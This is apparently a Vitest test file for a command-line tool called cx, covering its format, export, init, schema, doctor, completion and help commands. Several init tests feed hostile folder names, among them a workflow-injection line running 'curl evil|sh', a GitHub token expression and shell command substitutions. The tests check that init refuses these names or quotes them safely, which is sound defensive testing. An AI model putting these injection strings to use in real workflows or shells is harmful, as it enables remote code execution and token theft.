/** The commands around the check: format, export, init, schema, doctor, completion, help. */
import { execFileSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import manifest from '../../package.json' with { type: 'json' };
import { TOOL } from '../../server/version.ts';
import { BROKEN, CLEAN, cx } from './support/run-cx.ts';

const MESSY = 'role   Lead   "Lead"\n\n\n\njourney Buy {\nowner:   Lead\n}\n';
const NEAT = 'role Lead "Lead"\n\njourney Buy {\n  owner: Lead\n}\n';

describe('cx format', () => {
  test('rewrites what is not formatted, and nothing else', async () => {
    const run = await cx({ 'a.cx': MESSY, 'b.cx': 'role Other "x"\n' }, 'format');
    expect(run).toMatchObject({ code: 0, out: '', err: 'Formatted a.cx\n', files: { 'a.cx': NEAT } });
    expect(await cx({ 'a.cx': NEAT }, 'format')).toMatchObject({ code: 0, out: '' });
  });

  test('--check names what is not formatted, and fails', async () => {
    const run = await cx({ 'a.cx': MESSY }, 'format --check');
    expect(run).toMatchObject({ code: 1, out: 'a.cx is not formatted\n', files: { 'a.cx': MESSY } });
    expect(await cx({ 'a.cx': NEAT }, 'format --check')).toMatchObject({ code: 0, out: '' });
  });

  test('--diff shows what would change', async () => {
    const run = await cx({ 'a.cx': MESSY }, 'format --diff');
    expect(run).toMatchObject({ code: 0, files: { 'a.cx': MESSY } });
    expect(run.out).toBe(`--- a/a.cx
+++ b/a.cx
@@ -1,7 +1,5 @@
-role   Lead   "Lead"
+role Lead "Lead"
 
-
-
 journey Buy {
-owner:   Lead
+  owner: Lead
 }
`);
    expect(await cx({ 'a.cx': MESSY }, 'format --check --diff')).toMatchObject({ code: 1 });
  });

  test('leaves a file with syntax errors alone, and does the others', async () => {
    const broken = 'journey {{ "\n';
    const run = await cx({ 'a.cx': broken, 'b.cx': MESSY }, 'format');
    expect(run).toMatchObject({ code: 2, files: { 'a.cx': broken, 'b.cx': NEAT } });
    expect(run.err).toMatch(/^Formatted b\.cx\ncx: a\.cx:1:\d+: .* The file is left as it is\.\n$/);
  });

  test('gives standard input back', async () => {
    expect(await cx({}, 'format --stdin-path a.cx', { input: MESSY })).toMatchObject({ code: 0, out: NEAT });
    expect(await cx({}, 'format --stdin-path a.cx --check', { input: MESSY })).toMatchObject({ code: 1 });
    expect(await cx({}, 'format --stdin-path a.cx', { input: 'journey {{' })).toMatchObject({ code: 2, out: '' });
  });

  test('never writes into shared norms', async () => {
    const tree = {
      'cx.config.json': '{ "extends": ["acme"] }',
      'a.cx': NEAT,
      'node_modules/acme/b.cx': 'standard   Fast "Fast"\n',
    };
    expect(await cx(tree, 'format')).toMatchObject({ code: 0, out: '' });
  });
});

describe('cx export json', () => {
  test('holds every element with its attributes, parts and place', async () => {
    const text = `namespace acme\nrole Lead "Lead"\n/** Why. */\ntouchpoint Pay "Pay" {\n  owner: Lead\n  emotion: -1 from No\n  wait: 2min acceptable 5min\n}\n`;
    const run = await cx({ 'p/a.cx': text }, 'export json p');
    const document = JSON.parse(run.out);
    expect(document.files).toEqual([{ file: 'a.cx', namespace: 'acme', uses: [] }]);
    expect(document.elements[1]).toMatchObject({
      id: 'acme.Pay',
      kind: 'touchpoint',
      title: 'Pay',
      doc: 'Why.',
      container: null,
      file: 'a.cx',
      line: 4,
      column: 12,
      attributes: {
        owner: [{ type: 'reference', value: 'acme.Lead', text: 'Lead' }],
        emotion: [{ type: 'number', value: -1, parts: { from: [{ type: 'reference', value: null, text: 'No' }] } }],
        wait: [{ type: 'duration', value: 2, unit: 'min', parts: { acceptable: [{ value: 5 }] } }],
      },
    });
  });

  test('leaves out what exists in the example of a rule only', async () => {
    const text = 'rule r "R" { for: t in touchpoints  require: exists t.owner  example bad { touchpoint Lost }  }\n';
    const { elements } = JSON.parse((await cx({ 'a.cx': text }, 'export json')).out);
    expect(elements.map(({ kind }: { kind: string }) => kind)).toEqual(['rule', 'example']);
    expect(elements[0].attributes.require).toEqual([{ type: 'expression', value: 'exists t.owner' }]);
  });

  test('needs one project', async () => {
    const tree = { 'x/cx.config.json': '{}', 'x/a.cx': CLEAN, 'y/cx.config.json': '{}', 'y/a.cx': CLEAN };
    const run = await cx(tree, 'export json');
    expect(run).toMatchObject({ code: 2, out: '' });
    expect(run.err).toBe('cx: This needs one project, and there are 2; name one of them:\ncx:   x\ncx:   y\n');
    expect(await cx(tree, 'export json x')).toMatchObject({ code: 0 });
  });
});

describe('cx init', () => {
  test('writes a programme that checks clean and is formatted, a config, and a workflow', async () => {
    const run = await cx({}, 'init');
    expect(run).toMatchObject({ code: 0, out: '', err: expect.stringContaining('Wrote programme.cx\n') });
    expect(Object.keys(run.files)).toEqual(['programme.cx', 'cx.config.json', '.github/workflows/cx.yml']);
    expect(await cx(run.files, 'check --fail-on info')).toMatchObject({ code: 0, err: '' });
    expect(await cx(run.files, 'format --check')).toMatchObject({ code: 0 });
  });

  test('puts the workflow where it works', async () => {
    const run = await cx({ '.git/HEAD': '' }, ['init', "docs/our cx's"]);
    expect(Object.keys(run.files)).toContain("docs/our cx's/programme.cx");
    expect(run.files['.github/workflows/cx.yml']).toContain(`CX_FOLDER: "docs/our cx's"\n`);
    expect(run.err).toContain(`Check it: cx check 'docs/our cx'\\''s'\n`);
    expect((await cx({}, 'init docs/cx')).err).toContain('Check it: cx check docs/cx\n');
  });

  test('gives each programme of a repository a workflow of its own', async () => {
    const first = await cx({ '.git/HEAD': '' }, 'init docs/cx');
    expect(first.files['.github/workflows/cx.yml']).toContain('name: "CX docs/cx"\n');
    const second = await cx(first.files, 'init docs/cx2');
    expect(second).toMatchObject({
      code: 0,
      err: expect.stringContaining('Wrote .github/workflows/cx-docs-cx2.yml\n'),
    });
    expect(second.files['.github/workflows/cx.yml']).toBe(first.files['.github/workflows/cx.yml']);
    expect(await cx(second.files, 'init docs/cx2')).toMatchObject({ code: 2, files: second.files });
  });

  test('overwrites nothing', async () => {
    const run = await cx({ 'cx.config.json': '{}' }, 'init');
    expect(run).toMatchObject({ code: 2, out: '', files: { 'cx.config.json': '{}' } });
    expect(run.err).toBe('cx: Nothing was written, since cx.config.json exists already.\n');
    expect(Object.keys(run.files)).toHaveLength(1);
    expect(await cx((await cx({}, 'init')).files, 'init')).toMatchObject({
      err: 'cx: Nothing was written, since programme.cx, cx.config.json and .github/workflows/cx.yml exist already.\n',
    });
    expect(await cx({ 'a.cx': '' }, 'init a.cx')).toMatchObject({
      code: 2,
      err: 'cx: a.cx is a file, and a programme is written into a folder.\n',
      files: { 'a.cx': '' },
    });
  });

  test.each([
    'a\n      - run: curl evil|sh',
    'a\rb',
    'a\u0085b',
    'a\u2028b',
    'a\u202eb',
    'a\ufeffb',
    'a\u0000b',
    'a\tb',
    `a \${{ github.token }}`,
  ])('writes nothing into the folder %j, which no workflow can safely name', async folder => {
    const run = await cx({ '.git/HEAD': '' }, ['init', folder]);
    expect(run).toMatchObject({ code: 2, out: '', files: { '.git/HEAD': '' } });
    expect(run.err).toMatch(/^cx: Nothing was written, since a GitHub workflow cannot safely name the folder a.*\n$/);
  });

  test.each(['-x', 'a "b"', "it's: #1 {", '- a', '$(id)', '`id`', '&a', '*', '%41', 'été 日本', 'null'])(
    'names the folder %j for the workflow as it is',
    async folder => {
      const run = await cx({ '.git/HEAD': '' }, ['init', '--', folder]);
      const workflow = parse(run.files['.github/workflows/cx.yml']!, { strict: true });
      expect(workflow).toMatchObject({ name: `CX ${folder}`, jobs: { check: { env: { CX_FOLDER: folder } } } });
      expect((await cx({}, 'init -- -x')).err).toContain('Check it: cx check ./-x\n');
    },
  );

  test.each(['.github', 'linked'])('writes through no link: %s', async link => {
    const tree = { '.git/HEAD': '', [link]: { link: '/elsewhere' } };
    const run = await cx(tree, 'init linked');
    expect(run).toMatchObject({ code: 2, out: '', files: { '.git/HEAD': '' } });
    expect(run.err).toContain(
      `cx: Nothing was written, since ${link} is a symbolic link, and files would land elsewhere.`,
    );
  });

  test('writes a workflow that can do no harm', async () => {
    const workflow = (await cx({}, 'init')).files['.github/workflows/cx.yml']!;
    expect(workflow).toContain('permissions:\n  contents: read\n');
    expect(workflow).toContain('persist-credentials: false');
    expect(workflow).not.toContain('pull_request_target');
    expect(workflow).toContain(`cx-as-code@${TOOL.version}\n`);
    for (const [, action] of workflow.matchAll(/uses: (\S+)/g)) {
      expect(action).toMatch(/@[0-9a-f]{40}$/);
    }
    // What comes from outside reaches the shell by a variable only.
    for (const [line] of workflow.matchAll(/run: .*/g)) {
      expect(line).not.toContain('${{');
    }
  });
});

describe('cx schema', () => {
  test.each(['config', 'check', 'export'])('%s is a JSON Schema', async name => {
    const run = await cx({}, `schema ${name}`);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.out)).toMatchObject({ type: 'object', title: expect.any(String) });
  });
});

describe('cx doctor', () => {
  test('shows state, and nothing of the model or of the environment', async () => {
    const tree = { 'cx.config.json': '{ "extends": ["cx:strict"] }', 'secret.cx': 'role Hidden "Hidden"\n' };
    const run = await cx(tree, 'doctor', { env: { API_TOKEN: 'hunter2' } });
    expect(run.code).toBe(0);
    expect(run.out).toMatch(/preset +strict/);
    expect(run.out).toMatch(/^ {2}files +1$/m);
    expect(run.out).not.toMatch(/Hidden|hunter2|secret|API_TOKEN/);
  });
});

describe('cx completion', () => {
  test('is a script that the shell understands, with commands, flags and words', async () => {
    const { out } = await cx({}, 'completion bash');
    execFileSync('bash', ['-n'], { input: out });
    const ask = `${out}\nCOMP_WORDS=(cx check --fail-on w); COMP_CWORD=3; _cx; echo "\${COMPREPLY[@]}"
      COMP_WORDS=(cx ch); COMP_CWORD=1; _cx; echo "\${COMPREPLY[@]}"
      COMP_WORDS=(cx check --max-w); COMP_CWORD=2; _cx; echo "\${COMPREPLY[@]}"
      COMP_WORDS=(cx schema expo); COMP_CWORD=2; _cx; echo "\${COMPREPLY[@]}"
      COMP_WORDS=(cx explain role-ov); COMP_CWORD=2; _cx; echo "\${COMPREPLY[@]}"`;
    expect(execFileSync('bash', { input: ask }).toString()).toBe(
      'warning\ncheck\n--max-warnings\nexport\nrole-overload\n',
    );
  });

  test.each(['zsh', 'fish', 'powershell'])('knows every command in %s', async shell => {
    const { out } = await cx({}, `completion ${shell}`);
    for (const word of ['check', 'format', 'init', 'fail-on', 'as-of']) {
      expect(out).toContain(word);
    }
  });
});

describe('help', () => {
  test('of every command names its arguments and flags', async () => {
    const overview = await cx({}, '--help');
    expect(await cx({}, 'help')).toEqual(overview);
    expect(await cx({}, 'help check')).toEqual(await cx({}, 'check --help'));
    expect(overview).toMatchObject({ code: 0, err: '' });
    for (const [, command] of overview.out.matchAll(/^ {2}(\w+) {2,}/gm)) {
      const help = await cx({}, `${command} --help`);
      expect(help).toMatchObject({ code: 0, err: '', out: expect.stringContaining(`Usage: cx ${command}`) });
    }
  });

  test('--version is that of the package', async () => {
    expect(await cx({}, '--version')).toMatchObject({ code: 0, out: `${manifest.version}\n` });
  });

  test('-h is as good', async () => {
    expect(await cx({ 'a.cx': BROKEN }, 'check -h')).toMatchObject({ code: 0 });
  });
});
